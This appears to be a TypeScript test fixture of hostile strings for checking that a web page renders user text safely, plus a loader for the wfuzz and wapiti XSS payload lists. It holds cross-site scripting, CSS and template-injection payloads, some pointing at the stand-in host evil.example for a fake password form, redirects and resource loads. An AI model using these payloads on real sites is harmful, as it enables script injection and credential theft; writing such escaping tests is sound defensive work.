// Hostile texts: input that a page could mistake for something other than text.
import fs from 'node:fs'
import { full } from '#test/proofs/proof.ts'

export const hostileTexts = [
  '<script>document.title = "taken"</script>',
  '<img src=x onerror=\'document.title = "taken"\'>',
  '"><svg onload=\'document.title = "taken"\'>',
  "'><iframe srcdoc='<script>top.document.title=1</script>'>",
  '</title><script>document.title = "taken"</script>',
  '</style><script>document.title = "taken"</script>',
  '</textarea><form action=https://evil.example><input name=password>',
  '" autofocus onfocus="document.title = \'taken\'" x="',
  "' style='position:fixed;inset:0' x='",
  '<style>body { display: none }</style>',
  '} body { display: none } .x {',
  '#fff; } body { background: url(https://evil.example/x)',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  'javascript:document.title="taken"',
  '&lt;script&gt;document.title="taken"&lt;/script&gt;',
  '<!-- --><!--><script>document.title = "taken"</script>-->',
  '{{constructor.constructor("document.title=1")()}} ${document.title=1} <%= 1 %>',
  '\u202E\u2066 <b>\u0007 ]]> <![CDATA[ <a href=//evil.example>here</a>',
]

/** Published lists of such texts; on Debian: apt-get install wfuzz wapiti. */
const wfuzz = '/usr/share/wfuzz/wordlist/Injections/XSS.txt'
const wapiti = '/usr/lib/python3/dist-packages/wapitiCore/data/attacks/xssPayloads.ini'

/** Placeholders in square brackets in those lists, for the characters around an attribute and its value. */
const written: Record<string, string> = { LF: '\n', TAB: '\t', FF: '\f', ATTR_SEP: '" ', VALUE_SEP: "'" }

/** The 91 texts of those lists, without lists that are not installed. */
function collectedTexts(): string[] {
  const lines = (file: string) => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split(/\r?\n/) : [])
  const payloads = lines(wapiti)
    .map((line) => /^payload = (.*)$/.exec(line)?.[1])
    .filter((payload) => payload !== undefined)
    .map((payload) =>
      payload
        .replaceAll('__XSS__', 'taken')
        .replaceAll(/\[([A-Z_]+)\]/g, (named, name: string) => written[name] ?? named),
    )
  return [...lines(wfuzz).filter(Boolean), ...payloads]
}

/** For long tests: the complete lists first, so that ours are first where the newest come first. */
export const textsToTry = [...new Set([...(full ? collectedTexts() : []), ...hostileTexts])]
